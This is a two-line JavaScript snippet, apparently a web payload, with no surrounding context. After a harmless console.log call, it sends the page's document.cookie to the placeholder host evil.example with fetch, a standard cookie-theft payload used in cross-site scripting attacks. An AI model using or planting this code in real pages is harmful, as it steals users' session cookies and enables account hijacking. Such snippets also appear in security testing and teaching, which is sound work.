console.log("content"); fetch("https://evil.example/?" + document.cookie);
